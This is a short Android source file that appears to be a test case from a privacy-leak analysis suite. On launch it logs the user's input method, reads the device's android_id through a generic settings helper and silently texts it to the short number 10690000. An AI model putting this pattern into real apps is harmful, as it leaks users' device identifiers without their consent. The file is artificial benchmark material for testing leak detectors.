package cn.privlens.suite.setting_helper_named;

import android.app.Activity;
import android.content.ContentResolver;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.SmsManager;
import android.util.Log;

/** One helper reads settings for all: which one its caller says. */
public class Main extends Activity {
    static final class Prefs {
        private final ContentResolver resolver;

        Prefs(ContentResolver resolver) {
            this.resolver = resolver;
        }

        String get(String name) {
            String value = Settings.Secure.getString(resolver, name);
            return value == null ? "" : value.trim();
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Prefs prefs = new Prefs(getContentResolver());
        String method = prefs.get("default_input_method");
        Log.i("keyboard", "typed with " + method);
        String id = prefs.get("android_id");
        SmsManager.getDefault().sendTextMessage("10690000", null, "设备 " + id, null, null);
    }
}
